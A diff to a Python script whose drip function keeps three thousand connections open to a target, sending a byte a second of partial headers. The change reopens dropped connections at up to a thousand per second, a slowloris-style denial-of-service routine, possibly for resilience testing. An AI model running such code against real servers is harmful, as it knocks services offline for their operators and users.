@@ -11,6 +11,7 @@ import time
 from collections.abc import Iterator
 
 DRIPPING, SECONDS = 3000, 10
+_OPENED = 1000
 _MEGABYTE = b"a: " + b"b" * 95 + b"\r\n"  # a hundred bytes, sent ten thousand times
 _MANY = 50
 
@@ -21,7 +22,10 @@ def attack(name: str, url: str) -> None:
 
 
 def drip(place: tuple[str, int]) -> None:
-    """Three thousand connections send a byte a second each: of a first head, of a second one, of a body."""
+    """Three thousand connections send a byte a second each: of a first head, of a second one, of a body.
+
+    Those that are cut off are opened anew; up to a thousand are opened in a second.
+    """
     host = place[0].encode()
     kinds = [
         b"",
@@ -31,10 +35,13 @@ def drip(place: tuple[str, int]) -> None:
     lines: list[socket.socket | None] = [None] * DRIPPING
     end = time.monotonic() + SECONDS
     while time.monotonic() < end:
-        begun = time.monotonic()
+        begun, opened = time.monotonic(), 0
         for number, line in enumerate(lines):
-            lines[number] = _with_another_byte(line, place, kinds[number % 3])
-        time.sleep(max(0.0, begun + 1 - time.monotonic()))
+            opened += line is None
+            if line is not None or opened <= _OPENED:
+                lines[number] = _with_another_byte(line, place, kinds[number % 3])
+            if number % 30 == 0:  # spread over the second
+                time.sleep(max(0.0, begun + number / DRIPPING - time.monotonic()))
     for line in lines:
         if line is not None:
             line.close()
